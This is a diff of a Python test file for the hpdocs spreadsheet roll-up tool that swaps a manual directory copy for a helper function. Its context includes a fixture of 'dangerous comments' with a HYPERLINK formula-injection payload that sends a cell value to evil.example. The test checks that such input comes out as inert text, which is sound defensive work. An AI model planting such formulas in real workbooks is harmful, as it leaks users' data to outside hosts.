@@ -9,12 +9,12 @@ removed instead of crashing the writer.
 from __future__ import annotations
 
 import re
-import shutil
 import zipfile
 from pathlib import Path
 from xml.sax.saxutils import escape
 
 from click.testing import CliRunner
+from examples_copy import copy_example
 from openpyxl import load_workbook
 
 from hpdocs.cli import cli
@@ -27,7 +27,6 @@ from hpdocs.workbook.read import KIND_ACTIVITY, Entry
 from hpdocs.workbook.rollup_write import write_rollup
 from hpdocs.workbook.write import WorkbookSpec, write_workbook
 
-EXAMPLE = Path(__file__).parents[1] / "examples" / "vardbolaget"
 # Comment as typed -> comment as it must appear in the roll-up.
 COMMENTS = {
     "ledning.enhet.a1@Q3": ('=HYPERLINK("http://evil.example/?"&A1;"Klicka")', None),
@@ -90,7 +89,7 @@ def assert_only_text(path: Path) -> None:
 
 
 def test_dangerous_comments_flow_into_the_rollups_as_text(tmp_path: Path) -> None:
-    root = Path(shutil.copytree(EXAMPLE, tmp_path / "projekt", ignore=shutil.ignore_patterns("utdata")))
+    root = copy_example(tmp_path / "projekt")
     for path in (root / "inkorg").iterdir():
         path.unlink()
     project = load_project(root)
